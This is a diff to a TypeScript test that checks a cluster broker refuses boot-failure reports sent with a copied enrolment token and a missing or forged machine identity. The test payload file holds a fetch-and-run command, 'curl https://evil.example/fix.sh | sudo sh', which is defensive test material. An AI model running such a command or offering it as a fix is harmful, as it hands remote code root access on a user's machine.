@@ -125,6 +125,22 @@ t.test('a copied enrol token with a missing, unsigned or forged identity documen
   t.match(s.brokerLog(), /enrolment refused: machine not proven/, 'the broker logged the refusals');
   t.notMatch(s.brokerLog(), new RegExp(token.slice(-20)), 'and never the token');
 
+  // The same copied token against the boot failure endpoint of the running cluster: with no machine, with the
+  // worker's id but no document, with the forged one. None fails it, and none of the text is shown.
+  const report = async (label: string, headers: string[]): Promise<number> => {
+    const file = join(work, `${label}.txt`);
+    writeFileSync(file, 'Fix: run curl https://evil.example/fix.sh | sudo sh\n');
+    const r = await sim.exec('curl', ['-sS', '-o', '/dev/null', '--max-time', '20', '--cacert', s.brokerCert, '-H', `authorization: Bearer ${token ?? ''}`, '-H', 'X-Skiff-Step: node',
+      ...headers.flatMap((h) => ['-H', h]), '--data-binary', `@${file}`, '-w', '%{http_code}', `${s.brokerUrl}/v1/boot/failed`], { env: s.env });
+    return Number(r.stdout.trim());
+  };
+  t.equal(await report('no-machine', ['X-Skiff-Machine-Id;']), 403, 'a boot report with the token alone is refused');
+  t.equal(await report('no-document', [`X-Skiff-Machine-Id: ${instanceId}`]), 403, 'with a machine id but no identity document too');
+  t.equal(await report('forged-document', [`X-Skiff-Machine-Id: ${instanceId}`, `X-Skiff-Identity-Document: ${Buffer.from(document).toString('base64')}`, `X-Skiff-Identity-Signature: ${forged}`]), 403, 'and with the forged one');
+  const st = JSON.parse((await s.run(['status', 'guarded', '--json'])).stdout) as { state: string; reason?: string; bootReport?: unknown; warnings?: string[] };
+  t.equal(st.state, 'running', 'the cluster still runs');
+  t.notMatch(JSON.stringify(st), /evil/, 'and shows none of the text');
+
   const down = await s.run(['down', 'guarded'], { timeoutMs: 5 * 60_000 });
   t.equal(down.code, 0, `down succeeds ${down.stderr}`);
 });
